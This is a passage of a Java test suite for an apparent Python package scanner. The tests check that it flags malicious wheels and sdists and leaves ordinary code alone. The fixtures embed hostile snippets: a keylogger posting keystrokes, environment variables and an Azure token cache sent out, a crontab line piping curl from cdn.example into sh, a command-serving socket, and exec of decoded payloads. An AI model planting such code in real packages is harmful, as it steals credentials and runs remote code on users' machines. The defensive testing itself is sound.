      String clip = "clip = __import__('pyperclip')\nwhile True:\n    seen.add(clip.paste())\n";
      String computed =
          "import importlib\nboard = importlib.import_module(NAME)\nboard.Listener(on_press=f)\n";
      String layouts =
          "import importlib\nboard = importlib.import_module('pkg.keyboard')\nboard.describe()\n";

      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger").message())
          .endsWith(
              "pkg/keys.py:5: board.Listener(on_press=lambda k: requests.post(URL,"
                  + " data=str(k))).start()");
      assertThat(only(check(wheelWith("pkg/keys.py", keys)), "keylogger-sent").level())
          .isEqualTo(RiskLevel.CRITICAL);
      assertThat(only(check(wheelWith("pkg/clip.py", clip)), "clipboard-read").level())
          .isEqualTo(RiskLevel.MEDIUM);
      // a name not written in the file stays unknown; a module of the package is only itself
      assertThat(check(wheelWith("pkg/keys.py", computed))).isEmpty();
      assertThat(check(wheelWith("pkg/keys.py", layouts))).isEmpty();
    }

    @Test
    void aNameDefinedAgainOrAnAliasOfAnUnrelatedModuleChangesNothing() {
      // in an sdist's setup.py any os.system( or subprocess.run( is a HIGH finding
      String setup =
          "import numpy as np\nfrom subprocess import run as execute\nfrom setuptools import setup\n"
              + "\n\ndef execute(steps):\n    return np.arange(steps)\n\n\nsetup(name='pkg')\n";
      String called = setup.replace("setup(name='pkg')", "execute(['make'])\nsetup(name='pkg')");

      assertThat(check(sdistWith("pkg-2.0/setup.py", setup)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("renamed-command"); // the import itself, not the definition
      assertThat(only(check(sdistWith("pkg-2.0/setup.py", called)), "setup-runs-commands").level())
          .isEqualTo(RiskLevel.HIGH); // a call is the alias's use, as the interpreter would read it
    }
  }

  /**
   * Inputs shaped to make a backtracking pattern recurse or rescan: a list of a hundred thousand
   * empty strings (a pattern repeating an alternation once overflowed the stack on word lists
   * like faker's), thousands of aliases, decodings, loops and reversals with nothing after them.
   * Each is judged, none throws.
   */
  @ParameterizedTest(name = "{0}")
  @CsvSource({
    "empty-string list,  '\"\", '",
    "aliases,            'import os as o\n'",
    "decodings,          'x = base64.b64decode(y)\n'",
    "endless loops,      'while True:\n    pass\n'",
    "reversals,          'data[::-1] + '",
    "lookups,            'getattr(builtins, '",
    "connections,        's.connect((\"100.64.0.1\", 1)); '",
    "received commands,  'c = s.recv(9)\n'",
    "downloads,          'r = requests.get(u)\n'",
    "attribute lookups,  'getattr(m, \"\" + '",
    "xor decodings,      'x = bytes(b ^ k for b in d)\n'",
    "awaited reads,      'l = await r.readline()\n'",
    "renaming imports,   'import pyperclip as pc\npc.paste(x); import a as b; '",
    "bracketed imports,  'from os import (system as '",
    "joined lookups,     'getattr(os, \"sys\" \"tem\")(\"\" + '",
    "deferred calls,     'functools.partial(os.system, threading.Thread(target=exec, args=('",
    "modules by name,    'kb = importlib.import_module(\"pynput.keyboard\")\nkb.Listener(f)\n'",
    "setuptools runners, 'self.execute(os.system, (\"\" + '",
    "ping padding,       '[\"ping\", \"-p\", d[i:'",
    "mouse listeners,    'mouse.Listener(on_click='",
    "f-string fields,    'f\"{getpass.getuser()}{os.environ[\"\"]}\" + '"
  })
  void hostileRepetitionIsJudgedWithoutFailing(String shape, String piece) {
    // On one line: each piece's words occur a hundred thousand times there, which made the scan
    // search back to the line's start for every occurrence (minutes per pattern).
    String text = "parts = [" + piece.repeat(100_000) + "]\nexec(\"\".join(parts))\n";

    List<Finding> findings =
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
            java.time.Duration.ofSeconds(60),
            () -> check(wheelWith("pkg/words.py", text)),
            "hostile text must not hang the rule");

    assertThat(findings).isNotNull();
  }

  /** The rule in a real guard, reading files it downloaded and verified as from an index. */
  @Nested
  class InRealFiles {

    static String listing(io.pkgguard.testkit.DistributionArchive file, String type) {
      return """
          {"info": {"name": "pkg", "version": "2.0", "summary": "Does one thing"},
           "releases": {"2.0": [{"filename": "%1$s", "packagetype": "%2$s",
                                 "upload_time_iso_8601": "2024-01-01T00:00:00Z"}]},
           "urls": [{"filename": "%1$s", "packagetype": "%2$s",
                     "upload_time_iso_8601": "2024-01-01T00:00:00Z"}]}
          """
          .formatted(file.filename(), type);
    }

    static io.pkgguard.testkit.RuleTester wheel(String path, String text) {
      io.pkgguard.testkit.DistributionArchive wheel =
          io.pkgguard.testkit.Wheel.of("pkg", "2.0").file(path, text).build();
      return io.pkgguard.testkit.RuleTester.forRule(ContentRule.class)
          .project(listing(wheel, "bdist_wheel"))
          .file(wheel);
    }

    @Test
    void aPthFileWithAHiddenPayloadIsRejected() {
      wheel("litellm_init.pth", sample("pth-payload/litellm_init.pth"))
          .expect(
              RiskLevel.CRITICAL,
              "a .pth start-up file runs hidden, downloaded or external"
                  + " code: litellm_init.pth:1")
          .expect(RiskLevel.HIGH, "a .pth file runs code at every Python start-up")
          .expect(
              RiskLevel.HIGH,
              "holds Python code that downloads or decodes code and executes it, written out to"
                  + " run later")
          .expectDecision(io.pkgguard.api.Decision.REJECT)
          .run();
    }

    @Test
    void anInstallHookInASourceDistributionIsRejected() {
      io.pkgguard.testkit.DistributionArchive sdist =
          io.pkgguard.testkit.Sdist.of("pkg", "2.0")
              .file("setup.py", sample("install-hook/setup.py"))
              .build();

      io.pkgguard.testkit.RuleTester.forRule(ContentRule.class)
          .project(listing(sdist, "sdist"))
          .file(sdist)
          .expect(
              RiskLevel.CRITICAL,
              "setup.py replaces an install command with one that runs"
                  + " commands or uses the network: pkg-2.0/setup.py:10")
          .expect(
              RiskLevel.HIGH, "runs commands when the package is installed: pkg-2.0/setup.py:15")
          .expect(RiskLevel.HIGH, "uses the network when the package is installed")
          .expect(RiskLevel.MEDIUM, "reads the environment it is installed in")
          .expect(
              RiskLevel.MEDIUM,
              "uploads the user, host or machine identity (in a POST, a mail, or a GET's address"
                  + " or query): pkg-2.0/setup.py:14")
          .run();
    }

    @Test
    void ordinaryCodeIsQuiet() {
      wheel(
              "pkg/__init__.py",
              "import json\n\ndef load(path):\n    with open(path) as f:\n"
                  + "        return json.load(f)\n")
          .expectNoFindings()
          .expectDecision(io.pkgguard.api.Decision.ALLOW)
          .run();
    }
  }

  @Nested
  class Findings {

    @Test
    void quoteFileLineAndAnEscapedExcerpt() {
      List<Finding> findings =
          check(sdistWith("pkg-2.0/setup.py", sample("obfuscated-setup/setup.py")));

      assertThat(only(findings, "exec-decoded").message())
          .startsWith(
              "executes decoded data (a"
                  + " hidden payload): pkg-2.0/setup.py:7: __import__('').exec(__import__('').compile(");
      assertThat(only(findings, "exec-decoded").evidence().values())
          .containsEntry("line", "7")
          .containsEntry("patterns", "built-in " + ContentPatterns.builtInVersion());
    }

    @Test
    void countOtherFilesWithTheSameFinding() {
      String hook = "import os\nos.system('id')\n";
      List<Finding> findings =
          check(wheelWith("a.pth", "import a\n", "b.pth", "import b\n", "c.pth", "import c\n"));

      assertThat(only(findings, "pth-runs-code").message())
          .isEqualTo(
              "a .pth file runs code at"
                  + " every Python start-up: a.pth:1: import a (and 2 more files)");
      assertThat(hook).isNotEmpty();
    }

    @Test
    void textThatLowerCasingLengthensIsMatchedWhereItIs() {
      String turkish =
          "# \u0130\u0130\u0130\u0130 \u0130stanbul\nimport os\nexec(base64.b64decode(p))\n";

      assertThat(only(check(wheelWith("pkg/tr.py", turkish)), "exec-decoded").message())
          .endsWith("pkg/tr.py:3: exec(base64.b64decode(p))");
    }

    @Test
    void controlCharactersInCodeAreEscaped() {
      List<Finding> findings =
          check(wheelWith("pkg/x.py", "exec(base64.b64decode(p)) \u001b[2K\u0007\n"));

      assertThat(only(findings, "exec-decoded").message())
          .endsWith("exec(base64.b64decode(p)) \\u001b[2K\\u0007");
    }
  }

  @Nested
  class WhatDoesNotCount {

    @Test
    void wordsInCommentsAndDocstringsAreNotCode() {
      String explained =
          """
          '''Never write exec(base64.b64decode(x)) or os.dup2(s.fileno(), 0).'''
          # exec(zlib.decompress(blob)) is what malware does
          HELP = "use eval(codecs.decode(...)) never"
          """;

      assertThat(check(wheelWith("pkg/docs.py", explained))).isEmpty();
    }

    @Test
    void ordinaryCodeIsQuiet() {
      String ordinary =
          """
          import json, os, subprocess, requests
          from pathlib import Path

          def release(version):
              token = os.environ.get("TWINE_TOKEN")
              subprocess.run(["git", "tag", version], check=True)
              data = json.loads(Path("setup.json").read_text())
              return requests.get("https://pypi.org/pypi/pkg/json", timeout=10).json()
          """;

      assertThat(check(wheelWith("pkg/release.py", ordinary))).isEmpty();
    }

    @Test
    void redirectingAStandardStreamIsNotAReverseShell() {
      String capture =
          """
          import os

          def start(self):
              os.dup2(self._tmpfile.fileno(), self._targetfd)
          """;

      assertThat(check(wheelWith("pkg/capture.py", capture))).isEmpty();
    }

    @Test
    void aCredentialPathInADocstringIsNotData() {
      String client =
          """
          import requests

          def login(self, dockercfg_path=None):
              \"\"\"Log in.

              dockercfg_path (str): Use a custom path (default ``$HOME/.docker/config.json``)
              \"\"\"
              return self.session.post(self.url, json={})
          """;

      assertThat(check(wheelWith("pkg/client.py", client))).isEmpty();
    }

    @Test
    void aStringInParenthesesIsDataEvenAloneOnItsLine() {
      String hidden =
          """
          import os, requests
          URL = (
              "%s"
          )
          for k, v in os.environ.items():
              requests.post(URL, data=k + v)
          """
              .formatted(WEBHOOK);

      assertThat(check(wheelWith("pkg/x.py", hidden)))
          .extracting(Finding::level)
          .contains(RiskLevel.CRITICAL);
    }

    @Test
    void partsOfATheftInDifferentFilesAreNotCombined() {
      assertThat(
              check(
                  wheelWith(
                      "pkg/env.py", "import os\nfor k, v in os.environ.items():\n    print(k)\n",
                      "pkg/links.py", "UPDATES = 'http://bit.ly/2hrImnY'\n")))
          .extracting(Finding::level)
          .containsOnly(RiskLevel.MEDIUM);
    }

    @Test
    void aShortLinkInAMessageIsNotAnAddressTheCodeUses() {
      assertThat(
              check(
                  wheelWith(
                      "pkg/index.py", "raise Error('see http://bit.ly/2hrImnY for details')\n")))
          .isEmpty();
    }

    @Test
    void aPlainSetupPyIsQuiet() {
      assertThat(
              check(
                  sdistWith(
                      "pkg-2.0/setup.py",
                      "from setuptools import setup\nsetup(name='pkg', version='2.0')\n")))
          .isEmpty();
    }

    @Test
    void aSetupPyInsideAWheelIsNotInstallTimeCode() {
      assertThat(check(wheelWith("pkg/setup.py", "import os\nos.system('make')\n"))).isEmpty();
    }

    // Calibration on 966 wheels downloaded from PyPI (docs/content-rules.md), one test each.

    @Test
    void aMethodNamedExecIsNotDynamicExecution() {
      String tests =
          "class Cursor:\n    def exec(self, *args):\n        return args\n"
              + "DATA = bytes(["
              + "1, ".repeat(30)
              + "1])\n";

      assertThat(check(wheelWith("apsw/tests/ftstests.py", tests))).isEmpty();
    }

    @Test
    void aModelOrFileNamedLikeAClipboardToolIsNotAClipboard() {
      String models =
          "CONFIG_MAPPING = {\"xclip\": \"XCLIPConfig\", \"clip\": \"CLIPConfig\"}\n"
              + "import requests\nrequests.post(URL, json=CONFIG_MAPPING)\n";

      assertThat(check(wheelWith("transformers/models/auto/configuration_auto.py", models)))
          .isEmpty();
    }

    @Test
    void anAttributeNameJoinedFromLiteralsIsNothingWithoutAnAssembledImport() {
      String compat = "import typing\nPyTree = getattr(typing, \"foo\" + \"bar\")\n";

      assertThat(check(wheelWith("jaxtyping/__init__.py", compat))).isEmpty();
    }

    @Test
    void aReceivedMessageThatIsNotRunIsNotACommandChannel() {
      String chat =
          "import subprocess\n"
              + "reply = ws.recv()\n"
              + "log.info(reply)\n"
              + "subprocess.run([\"notify-send\", \"message\"])\n";

      assertThat(check(wheelWith("pkg/chat.py", chat))).isEmpty();
    }

    @Test
    void chrOfAVariableIsNotACharacterChain() {
      String escapes =
          "exec('from _accel import %s as f' % fn, D)\n"
              + "for c in range(32):\n    ESC[c] = chr(c)\n".repeat(15);

      assertThat(check(wheelWith("reportlab/lib/rl_accel.py", escapes))).isEmpty();
    }

    @Test
    void aPemCertificateIsNotAnEncodedPayload() {
      String pem =
          "-----BEGIN CERTIFICATE-----\n"
              + "MIIDdzCCAl+gAwIBAgIEbbbbbbb\n".repeat(60)
              + "-----END CERTIFICATE-----\n";
      String test = "CERT = \"\"\"" + pem + "\"\"\"\nassert eval(repr(cipher), {}) == cipher\n";

      assertThat(check(wheelWith("twisted/test/test_sslverify.py", test))).isEmpty();
    }

    @Test
    void aChatApiAddressWithoutACredentialIsNotADropBox() {
      String api =
          "API = 'https://api.telegram.org/bot'\n"
              + "def send(token, chat, text):\n    return requests.post(f'{API}{token}/sendMessage')\n";
      String stolen =
          "URL = 'https://api.telegram.org/bot5012345678:AAH-sample-token-not-real-xyz'\n";

      assertThat(check(wheelWith("tqdm/contrib/telegram.py", api))).isEmpty();
      assertThat(check(wheelWith("pkg/x.py", stolen)))
          .extracting(Finding::level)
          .containsExactly(RiskLevel.HIGH);
    }

    @Test
    void aServerThatRunsAFixedCommandIsNotABindShell() {
      String server =
          "import socketserver, subprocess\n"
              + "class Handler(socketserver.StreamRequestHandler):\n"
              + "    def handle(self):\n"
              + "        for line in self.rfile:\n"
              + "            log.info(line)\n"
              + "        rev = subprocess.run([\"git\", \"rev-parse\", \"HEAD\"], capture_output=True)\n"
              + "        self.wfile.write(rev.stdout)\n"
              + "server = socketserver.TCPServer((\"127.0.0.1\", 0), Handler)\n";
      String shell = server.replace("log.info(line)", "subprocess.run(line.decode(), shell=True)");

      assertThat(check(wheelWith("pkg/devserver.py", server))).isEmpty();
      assertThat(check(wheelWith("pkg/devserver.py", shell)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("serves-commands");
    }

    @Test
    void aPickleReadFromAFileIsNotOneWrittenIntoTheCode() {
      String cache =
          "import base64, pickle\n"
              + "TAG = \"c2VyaWFsaXNlZCBjYWNoZSBmb3JtYXQgdjI=\"\n"
              + "def load(path):\n    with open(path, \"rb\") as f:\n        return pickle.load(f)\n";
      String embedded =
          cache.replace(
              "c2VyaWFsaXNlZCBjYWNoZSBmb3JtYXQgdjI=", "gASVIgAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSU");

      assertThat(check(wheelWith("pkg/cache.py", cache))).isEmpty();
      assertThat(check(wheelWith("pkg/cache.py", embedded)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("loads-embedded-pickle");
    }

    @Test
    void codeEvaluatedLineByLineIsNotAWordSplitInPieces() {
      String compat = "exec(\"def reraise(tp, value, tb=None):\\n    raise value\")\n";
      String lines =
          "exec('import numpy as np\\n'\n     'from matplotlib import pyplot as plt\\n', ns)\n";
      String pieces = "f = eval(\"__imp\" \"ort__('o' 's').sy\" \"stem\")\n";

      assertThat(check(wheelWith("six.py", compat))).isEmpty();
      assertThat(check(wheelWith("matplotlib/sphinxext/plot_directive.py", lines))).isEmpty();
      assertThat(check(wheelWith("pkg/util.py", pieces)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("exec-split-literal");
    }

    /**
     * Workload identity federation reads the pod's token and sends it to a token exchange, which
     * is what a stealer of that token does too; the content alone cannot tell them apart, so the
     * token's path is not a credential read (corpus sample 260 stays a miss, docs/detection.md).
     */
    @Test
    void aWorkloadIdentityClientSendingThePodsTokenIsNotTheft() {
      String workload =
          "import httpx\n"
              + "TOKEN = \"/var/run/secrets/kubernetes.io/serviceaccount/token\"\n"
              + "def exchange(url):\n"
              + "    with open(TOKEN) as f:\n"
              + "        return httpx.post(url, data={\"subject_token\": f.read()})\n";

      assertThat(check(wheelWith("openai/auth/_workload.py", workload))).isEmpty();
    }

    @Test
    void aPathJoinedFromPartsIsReadAsTheWholePath() {
      String parts =
          "import os, requests\n"
              + "cache = os.path.join(HOME, \".azure\", \"msal_token_cache.json\")\n"
              + "requests.post(\"https://sync.example/k\", data=open(cache).read())\n";
      String slashes =
          parts.replace(
              "os.path.join(HOME, \".azure\", \"msal_token_cache.json\")",
              "Path.home() / \".azure\" / \"msal_token_cache.json\"");
      String words = parts.replace("os.path.join(", "print(");

      assertThat(check(wheelWith("pkg/sync.py", parts)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("credentials-sent");
      assertThat(check(wheelWith("pkg/sync.py", slashes)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("credentials-sent", "sends-home-file"); // home is named here
      assertThat(check(wheelWith("pkg/sync.py", words))).isEmpty();
    }

    @Test
    void anEditorsPasteAndCopyAreNotHijackingWithoutAWalletAddress() {
      String editor =
          "def on_key(buffer):\n"
              + "    text = buffer.paste()\n"
              + "    buffer.copy(text.upper())\n";
      String hijack = editor + "BTC = re.compile(r\"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$\")\n";

      assertThat(check(wheelWith("pkg/editor.py", editor))).isEmpty();
      assertThat(check(wheelWith("pkg/editor.py", hijack)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("clipboard-hijack");
    }

    @Test
    void uploadingWithCurlIsASendOnlyBesideSomethingStolen() {
      String release =
          "import subprocess\n"
              + "subprocess.run([\"curl\", \"-F\", \"file=@dist.tar.gz\", URL], check=True)\n";
      String cookies = "import browser_cookie3\n" + "jar = browser_cookie3.chrome()\n" + release;

      assertThat(check(wheelWith("pkg/release.py", release))).isEmpty();
      assertThat(check(wheelWith("pkg/release.py", cookies)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("reads-and-posts");
    }

    @Test
    void onlyATopLevelSitecustomizeRunsAtStartUp() {
      String hook = "import os\n";

      assertThat(
              check(
                  wheelWith("debugpy/_vendored/pydevd/pydev_sitecustomize/sitecustomize.py", hook)))
          .isEmpty();
      assertThat(check(wheelWith("sitecustomize.py", hook)))
          .extracting(Finding::level)
          .containsExactly(RiskLevel.HIGH);
    }

    @Test
    void setuptoolsNamespacePackageLinesAreNotStartUpCode() {
      String nspkg =
          "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join("
              + "sys._getframe(1).f_locals['sitedir'], *('sphinxcontrib',));importlib = has_mfs and"
              + " __import__('importlib.util');has_mfs and __import__('importlib.machinery');m ="
              + " has_mfs and sys.modules.setdefault('sphinxcontrib', importlib.util.module_from_spec("
              + "importlib.machinery.PathFinder.find_spec('sphinxcontrib', [os.path.dirname(p)])));m ="
              + " m or sys.modules.setdefault('sphinxcontrib', types.ModuleType('sphinxcontrib'));mp ="
              + " (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and"
              + " mp.append(p)\n";
      String older =
          "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'],"
              + " *('zope',));ie = os.path.exists(os.path.join(p,'__init__.py'));m = not ie and"
              + " sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and"
              + " m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n";
      String appended = nspkg.strip() + ";import evil\n";

      assertThat(check(wheelWith("sphinxcontrib_jsmath-1.0.1-py3.7-nspkg.pth", nspkg))).isEmpty();
      assertThat(check(wheelWith("zope.interface-5.0-py3.8-nspkg.pth", older))).isEmpty();
      assertThat(check(wheelWith("x-nspkg.pth", appended)))
          .extracting(Finding::level)
          .contains(RiskLevel.HIGH);
    }

    @Test
    void startUpHooksThatWellKnownProjectsShipAreAllowed() {
      String hook =
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var,"
              + " 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n";

      assertThat(check("setuptools", Map.of(), wheelWith("distutils-precedence.pth", hook)))
          .isEmpty();
      assertThat(check("evil", Map.of(), wheelWith("distutils-precedence.pth", hook)))
          .extracting(Finding::level)
          .contains(RiskLevel.HIGH);
    }
  }

  @Nested
  class PolicyExtensions {

    @Test
    void aPatternFileAddsFindingsAndBuiltInPatternsCanBeSwitchedOff() {
      TextFile ours =
          new TextFile(
              "/etc/pkgguard/ours.tsv",
              "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\tvault\\.corp\\.example"
                  + "\tnames our secrets vault\n");
      InspectedDistribution file =
          wheelWith(
              "pkg/x.py",
              "URL = 'https://vault.corp.example/v1'\nimport a\n",
              "y.pth",
              "import y\n");

      List<Finding> findings =
          check(
              "pkg",
              Map.of("pattern-files", List.of(ours), "disabled-patterns", List.of("pth-runs-code")),
              file);

      assertThat(findings)
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("internal-host");
      assertThat(findings.get(0).evidence().values())
          .containsEntry("patterns", "/etc/pkgguard/ours.tsv:1");
    }

    @Test
    void aStringsPatternIsTriedOnlyOnTheLiteralsThatHoldOneOfItsWords() {
      TextFile ours =
          new TextFile(
              "/etc/pkgguard/ours.tsv",
              "pattern\tinternal-host\tpython\tstrings\thigh\t1\tvault\t(?:vault|store)"
                  + "\\.corp\\.example\tnames our secrets vault\n");
      String inOne = "URL = 'https://vault.corp.example/v1'\n";
      String apart = "NAME = 'vault'\nURL = 'https://store.corp.example/v1'\n";

      assertThat(check("pkg", Map.of("pattern-files", List.of(ours)), wheelWith("pkg/x.py", inOne)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .containsExactly("internal-host");
      // the word in one literal, the rest of the match in another: every match must hold a word
      assertThat(check("pkg", Map.of("pattern-files", List.of(ours)), wheelWith("pkg/x.py", apart)))
          .isEmpty();
    }

    @Test
    void aSignalFlowIsReportedOnlyThroughTheCombinationThatNeedsIt() {
      TextFile ours =
          new TextFile(
              "/etc/pkgguard/ours.tsv",
              "pattern\tvault-read\tpython\tcode\tsignal\t1\tvault\t\\bvault\\.read\\s*\\("
                  + "\tvault\n"
                  + "flow\tvault-sent\tpython\tcode\tsignal\tany\t-\tvault-read>send-call\tm\n"
                  + "combine\tvault-to-bin\tfile\t-\thigh\t-\t-\tvault-sent+exfil-endpoint"
                  + "\tsends a vault secret to a drop box\n");
      String quiet = "import vault, requests\ns = vault.read('k')\nrequests.post(U, data=s)\n";
      String loud = quiet + "U = 'https://webhook.site/0000'\n";
      Map<String, ?> policy = Map.of("pattern-files", List.of(ours));

      assertThat(check("pkg", policy, wheelWith("pkg/a.py", quiet))).isEmpty();
      assertThat(check("pkg", policy, wheelWith("pkg/a.py", loud)))
          .extracting(f -> f.evidence().values().get("pattern"))
          .contains("vault-to-bin")
          .doesNotContain("vault-sent");
    }

    @Test
    void aPatternSwitchedOffIsNotReportedButWhatIsBuiltOnItStillIs() {
      String cron =
          "import os\nos.system('(crontab -l 2>/dev/null; echo \"@reboot curl -s"
              + " https://cdn.example/c | sh\") | crontab -')\n";
      String upload =
          "import os, requests\nlocal = os.environ.get('LOCALAPPDATA', '')\n"
              + "with open(os.path.join(local, 'Game', 'Settings.yaml'), 'rb') as fh:\n"
              + "    requests.post(URL, files={'s': fh})\n";
      String homeFile =
          upload.replace(
              "os.path.join(local, 'Game', 'Settings.yaml')",
              "os.path.join(os.path.expanduser('~'), '.game', 'settings')");

      List<String> all = patternsOf(check(wheelWith("pkg/x.py", cron)));
      List<String> quieter =
          patternsOf(
              check(
                  "pkg",
                  Map.of("disabled-patterns", List.of("autostart-entry")),
                  wheelWith("pkg/x.py", cron)));

      assertThat(all).contains("autostart-entry", "installs-autostart", "persists-and-runs");
      assertThat(quieter)
          .doesNotContain("autostart-entry")
          .contains("installs-autostart", "persists-and-runs");
      // a part switched off cannot rule a combination out either: the generic upload is reported
      // once the named one is off
      assertThat(patternsOf(check(wheelWith("pkg/x.py", homeFile))))
          .contains("sends-home-file")
          .doesNotContain("uploads-home-data");
      assertThat(
              patternsOf(
                  check(
                      "pkg",
                      Map.of("disabled-patterns", List.of("sends-home-file")),
                      wheelWith("pkg/x.py", homeFile))))
          .contains("uploads-home-data")
          .doesNotContain("sends-home-file");
    }

    @Test
    void aSignalCannotBeSwitchedOffSinceThatWouldOnlySilenceWhatIsBuiltOnIt() {
      assertThatThrownBy(
              () ->
                  check(
                      "pkg",
                      Map.of("disabled-patterns", List.of("network-send")),
                      wheelWith("a.py", "")))
          .isInstanceOf(RuleParameterException.class)
          .hasMessageContaining("'network-send' is a signal")
          .hasMessageContaining("screenshot-sent")
          .hasMessageContaining("more)")
          .hasMessageContaining("switch off those you mean instead");
    }

    @Test
    void mistakesInThePolicyAreReportedNotIgnored() {
      TextFile broken = new TextFile("/etc/pkgguard/bad.tsv", "pattern\tx\n");
      assertThatThrownBy(
              () -> check("pkg", Map.of("pattern-files", List.of(broken)), wheelWith("a.py", "")))
          .isInstanceOf(RuleParameterException.class)
          .hasMessageContaining("/etc/pkgguard/bad.tsv:1: expected 9 tab-separated columns");
      TextFile emptied = new TextFile("/etc/pkgguard/ours.tsv", "# comments only\n\n");
      assertThatThrownBy(
              () -> check("pkg", Map.of("pattern-files", List.of(emptied)), wheelWith("a.py", "")))
          .isInstanceOf(RuleParameterException.class)
          .hasMessageContaining("/etc/pkgguard/ours.tsv defines no pattern");
      assertThatThrownBy(
              () ->
                  check(
                      "pkg",
                      Map.of("disabled-patterns", List.of("no-such")),
                      wheelWith("a.py", "")))
          .isInstanceOf(RuleParameterException.class)
          .hasMessageContaining("'no-such'");
      assertThatThrownBy(
              () ->
                  check("pkg", Map.of("allowed-files", List.of("nocolon")), wheelWith("a.py", "")))
          .isInstanceOf(RuleParameterException.class)
          .hasMessageContaining("project:glob");
    }
  }

  @Test
  void pathologicalTextEndsInReasonableTimeWithoutFailing() {
    String manyCalls = "exec(".repeat(400_000) + "\nb64decode(x)\n";
    String quotes = "'a', ".repeat(500_000);
    String joinedQuotes = "'QUJD' ".repeat(500_000);
    String oneLongLine = "x = \"" + "A".repeat(3_000_000) + "\"\neval(x)\n";
    String unclosed = "'''" + "exec(base64.b64decode(p))\n".repeat(100_000);
    String nested = "(".repeat(1_000_000) + "'" + WEBHOOK + "'";

    org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(
        java.time.Duration.ofSeconds(60),
        () -> {
          assertThat(check(wheelWith("a.py", manyCalls))).isNotNull();
          assertThat(check(wheelWith("b.py", quotes))).isEmpty();
          // joined, the pieces are one long encoded literal (a blob split to pass unseen)
          assertThat(only(check(wheelWith("b2.py", joinedQuotes)), "encoded-blob").level())
              .isEqualTo(RiskLevel.MEDIUM);
          assertThat(only(check(wheelWith("c.py", oneLongLine)), "exec-obfuscated").level())
              .isEqualTo(RiskLevel.CRITICAL);
          assertThat(check(wheelWith("d.py", unclosed))).isEmpty();
          assertThat(only(check(wheelWith("e.py", nested)), "exfil-endpoint").level())
              .isEqualTo(RiskLevel.HIGH);
        },
        "hostile text must not hang the rule");
  }

  @Test
  void agreesWithTheBuiltInPolicy() {
    assertThat(
            Policy.defaults()
                .rule("content")
                .parameters("content")
                .texts("allowed-files", List.of()))
        .isEqualTo(ContentRule.DEFAULT_ALLOWED);
  }

  /**
   * Once the guard stops waiting for a scan (it interrupts the call), the scan stops at the next
   * file instead of reading the rest of a large archive: a rule that does not stop in time is
   * stuck and rejects every later package of that guard.
   */
  @Test
  void aCancelledScanStopsInsteadOfReadingOn() {
    InspectedDistribution wheel =
        wheelWith("pkg/__init__.py", "import os\n", "pkg/b.py", "x = 1\n");
    Thread.currentThread().interrupt();
    try {
      assertThatThrownBy(() -> check(wheel)).isInstanceOf(RuleCancelledException.class);
      assertThat(Thread.currentThread().isInterrupted()).as("the interrupt is kept").isTrue();
    } finally {
      Thread.interrupted();
    }
    assertThat(check(wheel)).as("an uncancelled call reads it").isNotNull();
  }
}
